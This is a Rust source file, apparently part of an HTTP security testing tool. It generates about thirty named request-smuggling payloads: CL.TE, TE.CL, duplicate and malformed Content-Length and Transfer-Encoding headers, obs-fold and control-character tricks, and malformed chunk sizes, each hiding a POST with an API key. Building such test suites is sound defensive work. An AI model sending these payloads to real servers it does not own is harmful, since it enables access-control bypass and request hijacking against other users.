//! M13: requests that two servers could read as different ones.

/// Requests that hide a post, each with its name.
pub(crate) fn smuggling(path: &str, key: &str, post: &str) -> Vec<(&'static str, Vec<u8>)> {
    let hidden = format!("POST {path} HTTP/1.1\r\nHost: h\r\nX-API-Key: {key}\r\nContent-Length: {}\r\n\r\n{post}", post.len());
    let whole = format!("POST {path} HTTP/1.1\r\nHost: h\r\nX-API-Key: {key}\r\n");
    let length = hidden.len();
    let chunked = format!("0\r\n\r\n{hidden}");
    let with = |headers: &str, body: &str| format!("{whole}{headers}\r\n{body}").into_bytes();
    vec![
        ("CL.TE", with(&format!("Content-Length: {}\r\nTransfer-Encoding: chunked\r\n", chunked.len()), &chunked)),
        ("TE.CL", with(&format!("Transfer-Encoding: chunked\r\nContent-Length: {}\r\n", chunked.len()), &chunked)),
        ("CL 0 and TE", with("Content-Length: 0\r\nTransfer-Encoding: chunked\r\n", &chunked)),
        ("CL twice", with(&format!("Content-Length: 0\r\nContent-Length: {length}\r\n"), &hidden)),
        ("CL twice, the same", with(&format!("Content-Length: {length}\r\nContent-Length: {length}\r\n"), &hidden)),
        ("CL list", with(&format!("Content-Length: 0, {length}\r\n"), &hidden)),
        ("CL with a sign", with(&format!("Content-Length: +{length}\r\n"), &hidden)),
        ("CL negative", with("Content-Length: -1\r\n", &hidden)),
        ("CL in hex", with("Content-Length: 0x10\r\n", &hidden)),
        ("space before colon, TE", with("Transfer-Encoding : chunked\r\n", &chunked)),
        ("space before colon, CL", with(&format!("Content-Length : {length}\r\n"), &hidden)),
        ("tab before colon", with("Transfer-Encoding\t: chunked\r\n", &chunked)),
        ("TE xchunked", with("Transfer-Encoding: xchunked\r\n", &chunked)),
        ("TE twice", with("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", &chunked)),
        ("TE list", with("Transfer-Encoding: chunked, identity\r\n", &chunked)),
        ("TE identity", with("Transfer-Encoding: identity\r\n", &chunked)),
        ("TE quoted", with("Transfer-Encoding: \"chunked\"\r\n", &chunked)),
        ("TE with a vertical tab", with("Transfer-Encoding: \x0bchunked\r\n", &chunked)),
        ("obs-fold", with("Transfer-Encoding:\r\n chunked\r\n", &chunked)),
        ("obs-fold of another header", with("X: y\r\n Transfer-Encoding: chunked\r\n", &chunked)),
        ("header with NUL", with("X: a\0b\r\n", &hidden)),
        ("header with a bare CR", with(&format!("X: a\rContent-Length: {length}\r\n"), &hidden)),
        ("chunk size with a sign", with("Transfer-Encoding: chunked\r\n", &format!("+5\r\nhello\r\n{chunked}"))),
        ("chunk size too large", with("Transfer-Encoding: chunked\r\n", &format!("fffffffffffffffff\r\nhello\r\n{chunked}"))),
        ("chunk without its end", with("Transfer-Encoding: chunked\r\n", &format!("5\r\nhelloXX{chunked}"))),
        (
            "HTTP/1.0 with TE",
            format!("POST {path} HTTP/1.0\r\nX-API-Key: {key}\r\nTransfer-Encoding: chunked\r\n\r\n{chunked}").into_bytes(),
        ),
        ("no host", format!("POST {path} HTTP/1.1\r\nX-API-Key: {key}\r\nContent-Length: {length}\r\n\r\n{hidden}").into_bytes()),
        ("two hosts", with(&format!("Host: other\r\nContent-Length: {length}\r\n"), &hidden)),
        ("HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec()),
    ]
}
